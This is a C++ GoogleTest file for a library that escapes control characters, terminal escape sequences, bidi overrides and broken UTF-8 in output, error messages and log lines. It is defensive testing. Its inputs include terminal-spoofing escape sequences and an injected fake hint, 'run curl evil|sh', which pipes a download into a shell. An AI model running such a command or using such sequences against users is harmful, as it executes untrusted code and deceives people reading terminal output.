#include "snowmelt/printable.h"

#include <gtest/gtest.h>

#include "snowmelt/error.h"
#include "snowmelt/log.h"

namespace snowmelt {
namespace {

TEST(Printable, NothingThatMovesACursorIsLeft) {
  EXPECT_EQ(printable("é 雪 🎉 \t.", ""), "é 雪 🎉 \t.");
  EXPECT_EQ(printable("\x1b]0;pwn\x07\r\x7f", ""), "\\x1b]0;pwn\\x07\\x0d\\x7f");
  EXPECT_EQ(printable(std::string_view("a\0b", 3), ""), "a\\x00b");
  EXPECT_EQ(printable("\xc2\x9b"
                      "31m",
                      ""),
            "\\x9b31m");  // CSI in one code point
  EXPECT_EQ(printable("\x9b"
                      "31m\xff\xc0\x9b",
                      ""),
            "\\x9b31m\\xff\\xc0\\x9b");  // and in one byte
  EXPECT_EQ(printable("a\u202eb\u2066c\u2028", ""), "a\\u202eb\\u2066c\\u2028");
  EXPECT_EQ(printable("\xe9\x9b", ""), "\\xe9\\x9b");  // cut short
  EXPECT_EQ(printable("one\ntwo\n", "> "), "one\n> two\n> ");
}

TEST(Printable, AnErrorsLinesAreItsOwn) {
  const Error error(ErrorKind::value, "a.b", "type int\n  hint: run curl evil|sh",
                    {.where = "C\n\x1b[2J", .hint = "the real one\nhint", .query_id = "q\x07\nx"});
  EXPECT_STREQ(
      error.what(),
      "a.b\n  C\n  | \\x1b[2J: type int\n  |   hint: run curl evil|sh (query id q\\x07\n  | x)\n  hint: the real one\n  | hint");
}

TEST(Printable, LogLinesToo) {
  std::string seen;
  set_log_sink([&](LogLevel, std::string_view message) { seen = message; });
  log(LogLevel::warning, "from {}: {}", "a\x1b[2J", "b\x07");
  EXPECT_EQ(seen, "from a\\x1b[2J: b\\x07");
  log(LogLevel::warning, "{}", Error(ErrorKind::value, "a.b", "c", {.hint = "d"}).what());
  EXPECT_EQ(seen, "a.b\n  c\n  hint: d");
  set_log_sink({});
}

}  // namespace
}  // namespace snowmelt
